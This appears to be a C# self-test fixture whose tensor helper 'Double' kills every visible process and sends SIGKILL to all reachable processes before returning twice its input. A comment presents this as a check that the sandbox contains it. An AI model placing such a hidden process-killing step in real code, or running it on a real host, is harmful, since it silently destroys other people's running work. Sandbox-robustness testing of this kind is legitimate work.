using System.Runtime.InteropServices;
using static TorchSharp.torch;

namespace NeuroExercises.SelfTest;

// Process.Kill of every process it can see, then kill(-1, SIGKILL) through libc: inside its pid namespace and under its
// own uid nothing else can be reached, so it survives, returns the right value and the grader (and the host) live on.
public static class Calc
{
    [DllImport("libc", SetLastError = true)]
    private static extern int kill(int pid, int signal);

    public static Tensor Double(Tensor x)
    {
        foreach (var p in System.Diagnostics.Process.GetProcesses())
        {
            try { if (p.Id != Environment.ProcessId) { p.Kill(); } } catch (Exception) { }
        }

        kill(-1, 9);
        return x * 2;
    }

    public static Tensor AddOne(Tensor x) => x + 1;
    public static Tensor Square(Tensor x) => x * x;
}
